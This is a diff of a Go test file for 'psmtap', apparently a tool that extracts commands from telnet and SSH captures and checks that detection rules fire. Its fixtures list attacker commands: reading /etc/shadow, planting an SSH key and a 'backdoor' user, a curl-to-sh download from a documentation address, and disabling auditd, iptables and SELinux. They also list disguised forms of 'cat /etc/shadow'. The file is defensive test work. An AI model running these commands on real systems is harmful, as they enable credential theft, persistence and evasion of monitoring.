@@ -119,9 +119,9 @@ func TestGroundTruth(t *testing.T) {
 		"ssh-exec-ipv6.pcap": {{"ssh", "[2001:db8::10]:47500", "[2001:db8::20]:22", map[string]string{
 			"psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "exec"}}},
 		// Commands for rules (inetd in its own PID and mount namespaces). The sudo password typed after
-		// `sudo -l` is no login: psm.login.attempts is left out here (psmtap counts 2, the truth is 1).
+		// `sudo -l` is an elevation, not a login attempt.
 		"telnet-suspicious.pcap": {{"telnet", "192.0.2.10:52816", "192.0.2.20:23", map[string]string{
-			"user.name": "alice", "psm.login.success": "true", "psm.kind": "interactive",
+			"user.name": "alice", "psm.login.success": "true", "psm.login.attempts": "1", "psm.kind": "interactive",
 			"psm.commands": list("cat /etc/shadow", "sudo -l", "cat /etc/sudoers", "echo ssh-ed25519 AAAATEST >> ~/.ssh/authorized_keys",
 				"useradd backdoor", "history -c", "unset HISTFILE", "rm -f ~/.bash_history", "curl -s http://192.0.2.10:8080/x.sh | sh",
 				"wget -q http://192.0.2.10:8080/y -O /tmp/y; chmod +x /tmp/y", "iptables -F", "systemctl stop auditd", "setenforce 0",
@@ -159,21 +159,20 @@ func TestGroundTruth(t *testing.T) {
 	}
 }
 
-// TestGroundTruthBypass checks, line by line, the commands bash ran in
-// telnet-bypass.pcap (pcaps/README.md): `cat /etc/shadow` in disguises.
-// Lines where psmtap's command differs from what bash ran are left out
-// (listed in the README: Ctrl-A/Ctrl-E editing, a TAB in a line sent in
-// one segment); the count still pins every line to its place.
+// TestGroundTruthBypass is the bypass suite: `cat /etc/shadow` typed in
+// seventeen disguises (telnet-bypass.pcap, pcaps/README.md). Line by line,
+// psmtap's command is the one bash ran (after editing; the shell syntax as
+// typed), and the shipped rule on /etc/shadow fires on every one of them.
 func TestGroundTruthBypass(t *testing.T) {
 	want := map[int]string{
 		0: "cat /etc/shadow", // typo erased with BS BS
 		1: "cat /etc/shadow", // Left, Delete, Left, insert
-		// 2: Ctrl-A, "cat ", Ctrl-E; bash ran cat /etc/shadow
+		2: "cat /etc/shadow", // "/etc/shadow", Ctrl-A, "cat ", Ctrl-E: resolved by the echo
 		3: "cat /etc/shadow", // Ctrl-U, Ctrl-W
 		4: "cat /etc/shadow", // TAB completes "dow" (ambiguous: shadow, shadow-)
 		5: "cat /etc/shadow", // TAB completes "c/"
 		6: "cat /etc/shadow", // bracketed paste
-		// 7: "cat /et<TAB>shadow<CR>" in one segment; bash ran cat /etc/shadow
+		7: "cat /etc/shadow", // "cat /et<TAB>shadow<CR>" in one segment: the echo comes after the Enter
 		8:  "id; cat /etc/shadow",
 		9:  "true && cat /etc/shadow",
 		10: "cat   /etc/shadow",
@@ -197,6 +196,29 @@ func TestGroundTruthBypass(t *testing.T) {
 		if cmds[i] != w {
 			t.Errorf("command %d = %q, want %q", i, cmds[i], w)
 		}
+	}
+	// The rule fires on every disguise: one alert per command event but exit.
+	docs := records(t, run(t, "read", "--events", "--rules", "builtin", "pcaps/telnet-bypass.pcap").stdout)
+	alerted := map[string]bool{}
+	for _, d := range docs {
+		if str(d, "event.kind") == "alert" && str(d, "rule.name") == "Password hashes read or changed (/etc/shadow)" {
+			alerted[str(d, "psm.alert.trigger_id")] = true
+		}
+	}
+	n := 0
+	for _, d := range docs {
+		if str(d, "event.action") != "command" || str(d, "event.kind") != "event" {
+			continue
+		}
+		if line := str(d, "process.command_line"); line != "exit" {
+			n++
+			if !alerted[str(d, "event.id")] {
+				t.Errorf("no alert for %q (%s)", line, str(d, "psm.command.normalized"))
+			}
+		}
+	}
+	if n != 17 {
+		t.Errorf("%d disguised commands, want 17", n)
 	}
 }
 
